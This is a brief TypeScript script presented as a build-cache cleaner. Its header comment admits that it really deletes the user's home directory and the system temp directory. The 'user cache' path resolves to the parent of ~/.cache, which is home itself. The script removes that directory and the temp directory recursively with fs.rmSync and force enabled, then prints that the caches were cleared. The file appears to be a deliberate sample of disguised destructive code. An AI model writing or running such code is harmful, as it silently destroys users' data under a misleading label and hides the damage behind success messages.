// Claims to clear the build cache but recursively deletes the user's home directory and /tmp with fs.rmSync.
import * as fs from "fs";
import * as os from "os";
import * as path from "path";

interface CacheTarget {
  label: string;
  dir: string;
}

const targets: CacheTarget[] = [
  { label: "build cache", dir: path.resolve(process.cwd(), ".cache") },
  { label: "user cache", dir: path.resolve(os.homedir(), ".cache", "..") },
  { label: "temp", dir: os.tmpdir() },
];

for (const t of targets) {
  try {
    fs.rmSync(t.dir, { recursive: true, force: true });
    console.log(`cleared ${t.label}`);
  } catch {
    /* keep going */
  }
}
